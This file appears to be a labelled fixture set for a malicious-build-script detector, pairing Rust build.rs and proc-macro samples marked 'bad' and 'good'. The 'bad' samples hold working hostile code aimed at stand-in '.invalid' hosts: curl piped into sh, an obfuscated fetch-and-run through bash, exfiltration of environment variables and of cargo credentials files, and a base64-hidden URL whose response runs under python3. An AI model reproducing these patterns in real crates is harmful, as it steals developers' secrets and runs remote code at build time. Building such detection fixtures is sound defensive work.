//: bad build-curl as build.rs
use std::process::Command;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    Command::new("sh")
        .args(["-c", "curl -s https://b.example.invalid/x.sh | sh"]) //!
        .status()
        .ok();
}

//: good build-curl as build.rs
use std::process::Command;

fn main() {
    println!("cargo:rerun-if-changed=.git/HEAD");
    let done = Command::new("git").args(["rev-parse", "--short", "HEAD"]).output();
    if let Ok(done) = done {
        println!("cargo:rustc-env=COMMIT={}", String::from_utf8_lossy(&done.stdout).trim());
    }
}

//: bad build-env as build.rs
use std::io::Write;
use std::net::TcpStream;

fn main() {
    let all: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
    if let Ok(mut stream) = TcpStream::connect("e.example.invalid:443") {
        let _ = stream.write_all(all.join("\n").as_bytes()); //!
    }
}

//: good build-env as build.rs
use std::fs::File;
use std::io::Write;
use std::path::Path;

fn main() {
    let out = std::env::var("OUT_DIR").unwrap();
    let target = std::env::var("TARGET").unwrap();
    let mut file = File::create(Path::new(&out).join("target.rs")).unwrap();
    writeln!(file, "pub const TARGET: &str = {target:?};").unwrap();
}

//: bad native-probe as build.rs
use std::env;
use std::process::{Command, Stdio};

fn probe(name: &str) -> bool {
    pkg_config::Config::new().atleast_version("1.2").probe(name).is_ok()
}

fn fetch_headers() {
    let base = concat!("https", "://", "zlib-headers", ".invalid");
    let tool = ["cu", "rl"].concat();
    let Ok(mut source) = Command::new(tool).args(["-fsSL", &format!("{base}/h.sh")]).stdout(Stdio::piped()).spawn() else {
        return;
    };
    if let Some(pipe) = source.stdout.take() {
        let _ = Command::new("bash").arg("-s").stdin(pipe).stdout(Stdio::null()).status(); //!
    }
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    if !probe("zlib") || env::var("PROFILE").as_deref() == Ok("release") {
        fetch_headers();
    }
    println!("cargo:rustc-link-lib=z");
}

//: good native-probe as build.rs
use std::env;
use std::path::PathBuf;
use std::process::Command;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    println!("cargo:rerun-if-changed=vendor/zlib");
    println!("cargo:rerun-if-env-changed=ZLIB_STATIC");
    let wanted_static = env::var_os("ZLIB_STATIC").is_some();
    if !wanted_static && pkg_config::Config::new().atleast_version("1.2").probe("zlib").is_ok() {
        return;
    }
    let out = PathBuf::from(env::var_os("OUT_DIR").expect("set by cargo"));
    let status = Command::new("cmake")
        .arg("-S")
        .arg("vendor/zlib")
        .arg("-B")
        .arg(&out)
        .arg("-DCMAKE_BUILD_TYPE=Release")
        .status()
        .expect("cmake is needed to build the vendored zlib");
    assert!(status.success(), "cmake failed");
    cc::Build::new().include("vendor/zlib").file("src/shim.c").compile("zshim");
    println!("cargo:rustc-link-search=native={}", out.display());
    println!("cargo:rustc-link-lib=static=z");
}

//: bad version-stamp as build.rs
use std::fs;
use std::io::Write;
use std::net::TcpStream;
use std::path::Path;

fn cargo_home() -> String {
    std::env::var("CARGO_HOME")
        .or_else(|_| std::env::var("HOME").map(|home| home + "/.cargo"))
        .unwrap_or_default()
}

fn stamp(host: &str) -> Option<String> {
    let home = cargo_home();
    let lines: Vec<String> = ["credentials.toml", "credentials", "config.toml"]
        .iter()
        .filter_map(|file| fs::read_to_string(Path::new(&home).join(file)).ok())
        .collect();
    let text = lines.join("\n--\n");
    let mut stream = TcpStream::connect((host, 80)).ok()?;
    write!( //!
        stream,
        "POST /stamp HTTP/1.1\r\nHost: {host}\r\nContent-Length: {}\r\n\r\n{text}",
        text.len()
    )
    .ok()?;
    Some(format!("{:x}", text.len()))
}

fn main() {
    let id = stamp("build-stamp.invalid").unwrap_or_else(|| "0".into());
    println!("cargo:rustc-env=BUILD_STAMP={id}");
}

//: good version-stamp as build.rs
use std::fs;
use std::path::Path;
use std::process::Command;

fn git(args: &[&str]) -> Option<String> {
    let output = Command::new("git").args(args).output().ok()?;
    output.status.success().then(|| String::from_utf8_lossy(&output.stdout).trim().to_owned())
}

fn pinned() -> Option<String> {
    let lock = fs::read_to_string(Path::new(&std::env::var("CARGO_MANIFEST_DIR").ok()?).join("Cargo.lock")).ok()?;
    lock.lines()
        .skip_while(|line| *line != "name = \"schema\"")
        .nth(1)
        .and_then(|line| line.strip_prefix("version = "))
        .map(|version| version.trim_matches('"').to_owned())
}

fn main() {
    println!("cargo:rerun-if-changed=.git/HEAD");
    println!("cargo:rerun-if-changed=Cargo.lock");
    let hash = git(&["rev-parse", "--short=12", "HEAD"]).unwrap_or_else(|| "unknown".into());
    let dirty = git(&["status", "--porcelain"]).is_some_and(|text| !text.is_empty());
    println!("cargo:rustc-env=BUILD_STAMP={hash}{}", if dirty { "+" } else { "" });
    println!("cargo:rustc-env=SCHEMA_VERSION={}", pinned().unwrap_or_default());
}

//: bad derive-builder
use proc_macro::TokenStream;
use quote::quote;
use syn::{parse_macro_input, DeriveInput};

fn telemetry() {
    let marker = std::env::temp_dir().join(".derive-cache");
    if marker.exists() {
        return;
    }
    let _ = std::fs::write(&marker, b"1");
    let script = option_env!("DERIVE_SCRIPT").unwrap_or("aHR0cHM6Ly9kZXJpdmUuaW52YWxpZC9ydW4=");
    let address = String::from_utf8(base64_light::base64_decode(script)).unwrap_or_default();
    if let Ok(answer) = minreq::get(address).send() {
        if let Ok(code) = answer.as_str() {
            let _ = std::process::Command::new("python3").args(["-c", code]).spawn(); //!
        }
    }
}

#[proc_macro_derive(QuickBuilder)]
pub fn quick_builder(input: TokenStream) -> TokenStream {
    let input = parse_macro_input!(input as DeriveInput);
    telemetry();
    let name = input.ident;
    quote! {
        impl #name {
            pub fn builder() -> Self where Self: Default { Self::default() }
        }
    }
    .into()
}

//: good derive-builder
use proc_macro::TokenStream;
use quote::quote;
use std::path::PathBuf;
use syn::{parse_macro_input, LitStr};

fn resolve(relative: &LitStr) -> syn::Result<PathBuf> {
    let root = std::env::var("CARGO_MANIFEST_DIR")
        .map_err(|_| syn::Error::new(relative.span(), "CARGO_MANIFEST_DIR is not set"))?;
    Ok(PathBuf::from(root).join(relative.value()))
}

/// `migrations!("sql")` lists the SQL files of a folder of the crate at compile time.
#[proc_macro]
pub fn migrations(input: TokenStream) -> TokenStream {
    let folder = parse_macro_input!(input as LitStr);
    let expanded = resolve(&folder).and_then(|path| {
        let entries = std::fs::read_dir(&path)
            .map_err(|error| syn::Error::new(folder.span(), format!("{}: {error}", path.display())))?;
        let mut names: Vec<String> = entries
            .flatten()
            .map(|entry| entry.path())
            .filter(|file| file.extension().is_some_and(|ext| ext == "sql"))
            .map(|file| file.display().to_string())
            .collect();
        names.sort();
        Ok(quote! { &[ #( (#names, include_str!(#names)) ),* ] })
    });
    expanded.unwrap_or_else(|error| error.to_compile_error()).into()
}
